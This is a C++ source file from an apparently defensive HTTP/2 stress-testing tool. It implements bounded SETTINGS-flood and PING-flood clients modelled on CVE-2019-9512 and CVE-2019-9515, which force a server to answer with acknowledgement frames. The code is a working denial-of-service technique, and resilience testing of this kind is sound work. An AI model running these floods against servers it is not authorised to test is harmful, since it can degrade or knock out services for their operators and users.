// h2-settings-flood and h2-ping-flood: control frames the server must answer (a SETTINGS
// ACK, a PING ACK), as many as the flood's bound allows (as CVE-2019-9512 and -9515). Both
// read between batches, so the server's GOAWAY is seen when it comes.
#include "flood_steps.hpp"
#include "loiter/clients/h2/frames.hpp"

namespace loiter::clients {

namespace {

awaitable<void> settings_connection(Shared<FloodOptions> options, Slot slot) {
  auto connection =
      connection_for(co_await asio::this_coro::executor, *options, slot, kH2SettingsFlood);
  const bool opened = co_await h2::open_flood(connection, *options, slot);
  if (!opened) co_return;
  h2::Flood flood(connection, slot.record, *options, kFloodFrames);
  // The values the client announced already: each SETTINGS changes nothing but costs an ACK.
  const auto frame = h2::settings({{h2::setting::enable_push, 0}});
  // Each turn sends one batch: bounded by the flood's frames and its time.
  while (flood.more()) {
    const std::size_t frames = flood.next_batch();
    std::string batch;
    for (std::size_t i = 0; i < frames; ++i) batch += frame;
    const bool sent = co_await flood.send(batch, frames);
    if (!sent) break;
    co_await flood.read_now();
  }
  co_await flood.finish();
}

awaitable<void> ping_connection(Shared<FloodOptions> options, Slot slot) {
  auto connection =
      connection_for(co_await asio::this_coro::executor, *options, slot, kH2PingFlood);
  const bool opened = co_await h2::open_flood(connection, *options, slot);
  if (!opened) co_return;
  h2::Flood flood(connection, slot.record, *options, kFloodFrames);
  std::uint64_t opaque = 0;
  // Each turn sends one batch: bounded by the flood's frames and its time.
  while (flood.more()) {
    const std::size_t frames = flood.next_batch();
    std::string batch;
    for (std::size_t i = 0; i < frames; ++i) batch += h2::ping(++opaque);
    const bool sent = co_await flood.send(batch, frames);
    if (!sent) break;
    co_await flood.read_now();
  }
  co_await flood.finish();
}

}  // namespace

void spawn_h2_settings_flood(asio::io_context& io, const FloodOptions& options,
                             std::vector<ConnectionRecord>& out) {
  h2::spawn_flood(io, options, &settings_connection, out);
}

void spawn_h2_ping_flood(asio::io_context& io, const FloodOptions& options,
                         std::vector<ConnectionRecord>& out) {
  h2::spawn_flood(io, options, &ping_connection, out);
}

}  // namespace loiter::clients
